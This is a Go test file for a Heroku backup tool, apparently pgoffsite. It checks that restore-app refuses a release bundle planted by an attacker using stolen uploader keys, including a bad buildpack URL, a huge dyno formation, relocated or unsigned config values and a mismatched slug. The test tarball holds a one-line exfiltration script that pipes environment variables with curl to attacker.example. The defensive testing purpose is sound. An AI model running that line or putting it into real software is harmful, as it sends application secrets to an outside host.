package cli

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/smithy-go"
	"github.com/google/uuid"
	"github.com/minio/madmin-go/v3"

	"github.com/pgoffsite/pgoffsite/internal/agecrypt"
	"github.com/pgoffsite/pgoffsite/internal/bundle"
	"github.com/pgoffsite/pgoffsite/internal/heroku"
)

// uploader is an S3 client holding the keys of a MinIO user with exactly the policy that
// `pgoffsite policy` prints: the dyno's uploader, as an attacker who stole its keys has it. What
// the test MinIO cannot evaluate is left out: the conditional-write statement (MinIO refuses its
// condition keys; `policy --conditional-writes=false` prints the document for such stores) and
// the TLS-only condition (it speaks plain http); a Deny left with no condition is dropped with it.
func (w *world) uploader(env map[string]string) *s3.Client {
	w.t.Helper()
	code, policy := w.run(map[string]string{"ARCHIVE_URL": env["ARCHIVE_URL"], "AWS_REGION": env["AWS_REGION"]}, "policy", "--conditional-writes=false")
	if code != ExitOK {
		w.t.Fatalf("policy: exit %d", code)
	}
	var doc map[string]any
	// The document first, then the warning that it cannot stop overwrites.
	if err := json.NewDecoder(strings.NewReader(policy)).Decode(&doc); err != nil {
		w.t.Fatal(err)
	}
	var kept []any
	for _, st := range doc["Statement"].([]any) {
		st := st.(map[string]any)
		c, ok := st["Condition"].(map[string]any)
		if !ok {
			kept = append(kept, st)
			continue
		}
		for op, kv := range c {
			for k := range kv.(map[string]any) {
				if k == "aws:SecureTransport" {
					delete(kv.(map[string]any), k)
				}
			}
			if len(kv.(map[string]any)) == 0 {
				delete(c, op)
			}
		}
		if len(c) == 0 {
			if st["Effect"] == "Deny" {
				continue
			}
			delete(st, "Condition")
		}
		kept = append(kept, st)
	}
	doc["Statement"] = kept
	plain, _ := json.Marshal(doc)
	ctx := context.Background()
	adm, err := madmin.New(strings.TrimPrefix(w.minio.Endpoint, "http://"), w.minio.AccessKey, w.minio.SecretKey, false)
	if err != nil {
		w.t.Fatal(err)
	}
	user, secret := "uploader-"+w.bucket, "uploader-secret-0123456789"
	if err := adm.AddCannedPolicy(ctx, user, plain); err != nil {
		w.t.Fatal(err)
	}
	if err := adm.AddUser(ctx, user, secret); err != nil {
		w.t.Fatal(err)
	}
	if _, err := adm.AttachPolicy(ctx, madmin.PolicyAssociationReq{Policies: []string{user}, User: user}); err != nil {
		w.t.Fatal(err)
	}
	return s3.New(s3.Options{Region: w.minio.Region, BaseEndpoint: aws.String(w.minio.Endpoint), UsePathStyle: true,
		Credentials: credentials.NewStaticCredentialsProvider(user, secret, "")})
}

// plant writes a new object with the uploader's keys, as a create-only write.
func (w *world) plant(up *s3.Client, key string, body []byte) {
	w.t.Helper()
	_, err := up.PutObject(context.Background(), &s3.PutObjectInput{Bucket: &w.bucket, Key: aws.String("pgbackups/" + key),
		Body: bytes.NewReader(body), ContentLength: aws.Int64(int64(len(body))), IfNoneMatch: aws.String("*")})
	if err != nil {
		w.t.Fatalf("the uploader's keys cannot write %s: %v", key, err)
	}
}

// stealTarball is the attacker's slug: a real gzip tarball whose worker sends the config away.
func stealTarball(t *testing.T) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for name, body := range map[string]string{"./app/steal.sh": "#!/bin/sh\nenv | curl -s -d @- https://attacker.example/collect\n",
		"./app/bin/web": "#!/bin/sh\nexec ./server\n"} {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o755, Size: int64(len(body))}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(body))
	}
	tw.Close()
	gz.Close()
	return buf.Bytes()
}

// platformCalls counts the requests made to the Platform API since before.
func (w *world) platformCalls(before int) int {
	n := 0
	for _, r := range w.sim.Requests()[before:] {
		if r.API == "platform" {
			n++
		}
	}
	return n
}

// Row 1 of the trust issue: with the uploader's keys an attacker writes a new release.json —
// their buildpack URL, a `bash app/steal.sh` worker, 50 performance-l dynos, the config values
// pointing at the genuine bundle's config.age and the slug at their own tarball. restore-app
// refuses it before asking Heroku anything, and the app's secrets never reach an app it made.
func TestRestoreAppRefusesPlantedBundle(t *testing.T) {
	w := newWorld(t)
	app, key := bundledEncrypted(t, w)
	genuine := fmt.Sprintf("shop/_app/v%d/", app.release)
	var rec bundle.Record
	if err := json.Unmarshal(w.object("pgbackups/"+genuine+"release.json"), &rec); err != nil {
		t.Fatal(err)
	}

	up := w.uploader(w.env("shop"))
	// The uploader can write, not read: the genuine values can only be pointed at.
	_, err := up.GetObject(context.Background(), &s3.GetObjectInput{Bucket: &w.bucket, Key: aws.String("pgbackups/" + genuine + "config.age")})
	var ae smithy.APIError
	if !errors.As(err, &ae) || ae.ErrorCode() != "AccessDenied" {
		t.Fatalf("GetObject with the uploader's keys: %v, want AccessDenied", err)
	}
	evil := stealTarball(t)
	sum := sha256.Sum256(evil)
	plantAt := func(release int, mutate func(*bundle.Record)) string {
		p := rec
		p.Release, p.ReleaseID, p.Description = release, uuid.NewString(), "Deploy 31337c0d"
		p.Buildpacks = []string{"https://github.com/attacker/heroku-buildpack-steal"}
		p.ProcessTypes = map[string]string{"web": "bin/web", "worker": "bash app/steal.sh"}
		p.Formation = []heroku.Process{{Type: "worker", Quantity: 50, Size: "performance-l"}}
		p.ConfigValues = &bundle.Config{Key: genuine + "config.age", Recipients: rec.ConfigValues.Recipients}
		p.Slug = &bundle.Slug{ID: uuid.NewString(), Key: bundle.Key("shop", release, bundle.SlugName), FromRelease: release,
			Bytes: int64(len(evil)), Checksum: "SHA256:" + hex.EncodeToString(sum[:]), Stack: "heroku-24"}
		if mutate != nil {
			mutate(&p)
		}
		w.plant(up, p.Slug.Key, evil)
		blob, _ := json.MarshalIndent(p, "", "  ")
		k := bundle.Key("shop", release, bundle.ReleaseName)
		w.plant(up, k, blob)
		return k
	}
	renv := w.env("shop")
	renv["AGE_IDENTITY"] = key.Text
	restore := func(t *testing.T, env map[string]string, from, to string, flags ...string) (int, string) {
		t.Helper()
		before := len(w.sim.Requests())
		code, out := w.run(env, append([]string{"restore-app", "--from", from, "--to", to, "--confirm", to}, flags...)...)
		if code == ExitOK {
			t.Errorf("restore-app of the planted bundle %s: exit 0", from)
		}
		if n := w.platformCalls(before); n != 0 {
			t.Errorf("restore-app made %d requests to the Platform API before refusing", n)
		}
		if _, ok := w.sim.App(to); ok {
			t.Errorf("restore-app created the app %s", to)
		}
		assertNoValue(t, app.all, "restore-app's output", []byte(out))
		return code, out
	}

	// The attack as found: refused, the config values at another release's key named.
	from := plantAt(99, nil)
	code, out := restore(t, renv, from, "shop-evil")
	if code != ExitFailed || !strings.Contains(out, "config values are at "+genuine+"config.age, not at the bundle's own shop/_app/v99/config.age") {
		t.Errorf("the planted bundle: exit %d, want %d naming the config values' key", code, ExitFailed)
	}

	t.Run("values moved into the bundle", func(t *testing.T) {
		// Even copied under the planted bundle's own key (whoever can read the bucket could),
		// the values name the release they belong to.
		w.t = t
		if _, err := w.s3().CopyObject(context.Background(), &s3.CopyObjectInput{Bucket: &w.bucket, Key: aws.String("pgbackups/shop/_app/v98/config.age"),
			CopySource: aws.String(w.bucket + "/pgbackups/" + genuine + "config.age")}); err != nil {
			t.Fatal(err)
		}
		from := plantAt(98, func(p *bundle.Record) { p.ConfigValues.Key = "shop/_app/v98/config.age" })
		code, out := restore(t, renv, from, "shop-evil-98")
		want := fmt.Sprintf("shop/_app/v98/config.age: belongs to another release than this release.json (release %d, not 98", app.release)
		if code != ExitFailed || !strings.Contains(out, want) {
			t.Errorf("values moved into a planted bundle: exit %d, want %d and %q", code, ExitFailed, want)
		}
	})

	// A bundle consistent in itself: the attacker's own values, bound and encrypted to the
	// recipients (which are public), their own slug.
	ownValues := func(release int, sign bundle.SigningKey) func(*bundle.Record) {
		return func(p *bundle.Record) {
			p.ConfigValues.Key = bundle.Key("shop", release, bundle.ConfigName)
			p.ConfigVarNames = []string{"EXFIL_TOKEN"}
			plain, err := bundle.SealValues(*p, map[string]string{"EXFIL_TOKEN": "attacker-token-31337"}, sign)
			if err != nil {
				t.Fatal(err)
			}
			recips, _ := agecrypt.ParseRecipients(key.Recipient)
			enc, _, err := recips.EncryptReader(bytes.NewReader(plain), int64(len(plain)))
			if err != nil {
				t.Fatal(err)
			}
			ct, _ := io.ReadAll(enc)
			w.plant(up, p.ConfigValues.Key, ct)
			if err := p.Sign(sign); err != nil {
				t.Fatal(err)
			}
		}
	}

	t.Run("rules", func(t *testing.T) {
		// The plan shows what it would deploy; the URL buildpack and the formation are refused,
		// each naming the flag that would accept it.
		w.t = t
		from := plantAt(97, ownValues(97, bundle.SigningKey{}))
		code, out := restore(t, renv, from, "shop-evil-97")
		for _, s := range []string{"restore-app will deploy into shop-evil-97", "signature      NONE", "https://github.com/attacker/heroku-buildpack-steal",
			"worker       bash app/steal.sh", "worker       50 × performance-l", "SHA256:" + hex.EncodeToString(sum[:]),
			"is not from Heroku's buildpack registry", "add --allow-buildpack-url",
			"the formation asks for 50 performance-l worker dynos and 50 dynos in all", "add --allow-formation"} {
			if !strings.Contains(out, s) {
				t.Errorf("restore-app does not say %q", s)
			}
		}
		if code != ExitUsage {
			t.Errorf("exit %d, want %d (a flag would accept it)", code, ExitUsage)
		}
	})

	t.Run("verify key", func(t *testing.T) {
		// With the public half of BUNDLE_SIGNING_KEY, neither an unsigned bundle nor one signed
		// with another key passes, whatever the flags.
		w.t = t
		_, pub, _ := signingKey(t)
		vest := withEnv(renv, "BUNDLE_VERIFY_KEY", pub)
		from := plantAt(96, ownValues(96, bundle.SigningKey{}))
		code, out := restore(t, vest, from, "shop-evil-96", "--allow-buildpack-url", "--allow-formation")
		if code != ExitFailed || !strings.Contains(out, "shop/_app/v96/release.json: not signed; refused") {
			t.Errorf("an unsigned bundle with a verify key: exit %d, want %d and its refusal", code, ExitFailed)
		}
		// Where BUNDLE_SIGNING_KEY is set, its public half checks without being given.
		ours, _, _ := signingKey(t)
		code, out = restore(t, withEnv(renv, "BUNDLE_SIGNING_KEY", ours), from, "shop-evil-96", "--allow-buildpack-url", "--allow-formation")
		if code != ExitFailed || !strings.Contains(out, "shop/_app/v96/release.json: not signed; refused") {
			t.Errorf("an unsigned bundle where BUNDLE_SIGNING_KEY is set: exit %d, want %d and its refusal", code, ExitFailed)
		}
		theirs, _, _ := signingKey(t)
		k, err := bundle.ParseSigningKey(theirs)
		if err != nil {
			t.Fatal(err)
		}
		from = plantAt(95, ownValues(95, k))
		code, out = restore(t, vest, from, "shop-evil-95", "--allow-buildpack-url", "--allow-formation")
		if code != ExitFailed || !strings.Contains(out, "release.json: signature does not verify: it was signed with the key "+k.Public().Fingerprint()) {
			t.Errorf("a bundle signed with another key: exit %d, want %d naming the key", code, ExitFailed)
		}
	})

	t.Run("slug", func(t *testing.T) {
		// A slug whose bytes are not those release.json records is refused before anything is
		// made, even from a bundle consistent in itself.
		w.t = t
		from := plantAt(94, func(p *bundle.Record) {
			other := sha256.Sum256([]byte("another slug"))
			p.Slug.Checksum = "SHA256:" + hex.EncodeToString(other[:])
			ownValues(94, bundle.SigningKey{})(p)
		})
		code, out := restore(t, renv, from, "shop-evil-94", "--allow-buildpack-url", "--allow-formation")
		if code != ExitFailed || !strings.Contains(out, "the archived slug shop/_app/v94/slug.tgz: its SHA-256 is "+hex.EncodeToString(sum[:])) {
			t.Errorf("a slug that is not the recorded one: exit %d, want %d naming it", code, ExitFailed)
		}
	})
}

// A bundle written before the values were bound to their release (bundle_version 1, config.age
// a plain object of values) is refused, saying why and which flag accepts it; with the flag it
// restores.
func TestRestoreAppUnboundValues(t *testing.T) {
	w := newWorld(t)
	app, key := bundledEncrypted(t, w)
	// What pgoffsite wrote before: the same bundle, its values alone, bundle_version 1.
	v := fmt.Sprintf("shop/_app/v%d/", app.release)
	var rec bundle.Record
	if err := json.Unmarshal(w.object("pgbackups/"+v+"release.json"), &rec); err != nil {
		t.Fatal(err)
	}
	rec.BundleVersion = 1
	blob, _ := json.MarshalIndent(rec, "", "  ")
	flat, _ := json.Marshal(app.all)
	recips, _ := agecrypt.ParseRecipients(key.Recipient)
	enc, _, err := recips.EncryptReader(bytes.NewReader(flat), int64(len(flat)))
	if err != nil {
		t.Fatal(err)
	}
	ct, _ := io.ReadAll(enc)
	for k, body := range map[string][]byte{v + "config.age": ct, v + "release.json": blob} {
		if _, err := w.s3().PutObject(context.Background(), &s3.PutObjectInput{Bucket: &w.bucket, Key: aws.String("pgbackups/" + k), Body: bytes.NewReader(body)}); err != nil {
			t.Fatal(err)
		}
	}
	renv := w.env("shop")
	renv["AGE_IDENTITY"] = key.Text
	before := len(w.sim.Requests())
	code, out := w.run(renv, "restore-app", "--from", v+"release.json", "--to", "shop-old", "--confirm", "shop-old")
	if code != ExitUsage || !strings.Contains(out, "bound to no release (written by a pgoffsite before bundle_version 2)") || !strings.Contains(out, "--allow-unbound-config") ||
		w.platformCalls(before) != 0 {
		t.Errorf("unbound values: exit %d, %d requests; want %d, refused naming --allow-unbound-config", code, w.platformCalls(before), ExitUsage)
	}
	code, out = w.run(renv, "restore-app", "--from", v+"release.json", "--to", "shop-old", "--confirm", "shop-old", "--allow-unbound-config")
	if code != ExitOK || !strings.Contains(out, "(bound to no release: accepted by --allow-unbound-config)") {
		t.Fatalf("unbound values with --allow-unbound-config: exit %d", code)
	}
	if st, _ := w.sim.App("shop-old"); len(st.Config) != len(app.vars) {
		t.Errorf("the app got %d config vars, want %d", len(st.Config), len(app.vars))
	}
}

// Mistakes in the bundle's keys stop bundle and restore-app with exit status 2, naming the
// variable (or flag) and how to make a key, before any request.
func TestBundleKeyMistakes(t *testing.T) {
	w := newWorld(t)
	newBundleApp(t, w)
	priv, _, _ := signingKey(t)
	badFile := filepath.Join(t.TempDir(), "wrong.pub")
	os.WriteFile(badFile, []byte(priv), 0o600)
	cases := []struct {
		name string
		env  map[string]string
		args []string
		want string
	}{
		{"signing key garbage", withEnv(w.env("shop"), "BUNDLE_SIGNING_KEY", "ed25519-but-not-really"), []string{"bundle"},
			"BUNDLE_SIGNING_KEY: is not a private key"},
		{"signing key public", withEnv(w.env("shop"), "BUNDLE_SIGNING_KEY", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x"), []string{"backup"},
			"BUNDLE_SIGNING_KEY: is a public key"},
		{"verify key garbage", withEnv(w.env("shop"), "BUNDLE_VERIFY_KEY", "not a key"), []string{"restore-app", "--from", "shop/_app/v3/release.json", "--to", "x-app", "--confirm", "x-app"},
			"BUNDLE_VERIFY_KEY: is not a public key line"},
		{"verify key file", w.env("shop"), []string{"restore-app", "--from", "shop/_app/v3/release.json", "--to", "x-app", "--confirm", "x-app", "--verify-key", badFile},
			"--verify-key " + badFile + ": is a private key"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			w.t = t
			before := len(w.sim.Requests())
			code, out := w.run(c.env, c.args...)
			if code != ExitUsage || !strings.Contains(out, c.want) || !strings.Contains(out, "ssh-keygen") || len(w.sim.Requests()) != before {
				t.Errorf("exit %d, %d requests; want %d and %q with how to make a key, before any request", code, len(w.sim.Requests())-before, ExitUsage, c.want)
			}
			assertNoKey(t, priv, out)
		})
	}
}
